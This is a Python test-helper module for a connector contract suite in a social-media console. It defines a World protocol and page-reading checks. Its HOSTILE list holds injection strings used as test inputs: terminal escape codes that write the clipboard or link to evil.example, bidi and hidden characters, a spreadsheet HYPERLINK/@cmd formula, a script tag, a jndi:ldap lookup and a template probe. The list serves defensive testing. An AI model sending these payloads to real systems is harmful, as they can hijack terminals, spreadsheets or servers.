"""The network as citizens see it, and how the suite reads a connector."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import Protocol

from social_console import clock
from social_console.connectors.base import Budget, Connector, Outgoing, Page, StreamSpec
from social_console.connectors.contract.clauses import expect, only_ours
from social_console.errors import ConnectorError
from social_console.model import Item, Json, Mention

Connect = Callable[[], Connector]
"""Makes a new connector, as after a restart; closed when the test ends."""
ENOUGH = 7
"""Posts in tests that need several."""
SECRET_WORDS = ("password", "secret", "refresh_token", "access_token", "api_key")
HOSTILE = (
    "\x1b[31mrojo\x1b[0m y \x1b]52;c;ZXZpbA==\x07portapapeles",
    "\x1b]8;;http://evil.example\x1b\\enlace\x1b]8;;\x1b\\",
    "\x9b31mC1 \x85 \x90",
    "izquierda \u202egnitirw\u202c derecha \u2066aislado\u2069",
    "etiquetas \U000e0041\U000e0042 ocultas\u200b\ufeff aquí",
    "[@click=app.quit]pulse[/] [bold]no[/bold] [/]",
    '=HYPERLINK("http://evil.example") +1 -1 @cmd',
    "<script>alert(1)</script> & &amp; %00 ${jndi:ldap://x} {{7*7}}",
    "Z" + "\u0301" * 200 + "algo",
    "👩‍👩‍👧‍👦 ñandú İıſß ﷽ 漢字 \U0001f1e9\U0001f1f4",
)
"""Texts that harm whoever trusts them. A connector gives them on as they are; the core makes them safe."""


class World(Protocol):
    """Your network as citizens see it. `base_url` is where it stands."""

    base_url: str
    read_faults: Mapping[str, type[ConnectorError]]
    """What `break_next` can do to the next read, and the error that must come of it."""
    send_faults: Sequence[str]
    """What `break_next` can do to the next send, at each step of it."""

    def connector(self) -> Connector:
        """A new one, as after a restart, with pages of at most three items where that can be set."""
        ...

    def citizen_posts(self, text: str, *, author: str = "ana", in_reply_to: str | None = None) -> str:
        """Somebody addresses the account; returns what `Mention.name` will be, once it can be read."""
        ...

    def answers_to(self, ref: str, author: str = "ana") -> Sequence[str]:
        """The texts under that post which its author can see, once what is under way has arrived."""
        ...

    def edit(self, ref: str, text: str) -> None:
        """The citizen changes it (only where `capabilities.edits`)."""
        ...

    def delete(self, ref: str) -> None:
        """The citizen removes it (only where `capabilities.deletes`)."""
        ...

    def break_next(self, fault: str) -> None:
        """The next read or send suffers `fault`, once."""
        ...

    def carries(self, text: str) -> bool:
        """Whether the channel itself can carry this text unchanged."""
        ...


def read(connector: Connector, stream: StreamSpec, state: Json = None) -> list[Page]:
    """One whole fetch. Each state is what JSON makes of it, as after a restart."""
    with only_ours(f"reading {stream.name}"):
        pages = list(connector.fetch(stream, state, Budget()))
    expect(pages, "pages", f"fetching {stream.name} yielded no page at all")
    expect(pages[-1].done, "pages", f"the last of {len(pages)} pages of {stream.name} has done=False")
    early = [number for number, page in enumerate(pages[:-1], 1) if page.done]
    expect(not early, "pages", f"page {early} of {len(pages)} has done=True")
    for page in pages:
        expect(_survives(page.state), "state", repr(page.state))
    return pages


def _survives(state: Json) -> bool:
    try:
        return isinstance(state, dict) and "v" in state and json.loads(json.dumps(state)) == state
    except (TypeError, ValueError):
        return False


def items(pages: Iterable[Page]) -> list[Item]:
    """All of them, in order."""
    return [item for page in pages for item in page.items]


def mentions(pages: Iterable[Page]) -> dict[str, Mention]:
    """By id."""
    return {item.id: item for item in items(pages) if isinstance(item, Mention)}


def incoming(connector: Connector) -> StreamSpec:
    """The first stream of what others say."""
    streams = [stream for stream in connector.streams() if not stream.own]
    expect(streams, "streams", "streams() names none of what others say (own=False)")
    return streams[0]


def outgoing(text: str, connector: Connector) -> Outgoing:
    """A reply, cut to what the channel takes."""
    maximum = connector.limits().maximum
    return Outgoing(text=text if maximum is None else text[:maximum], now=clock.now())
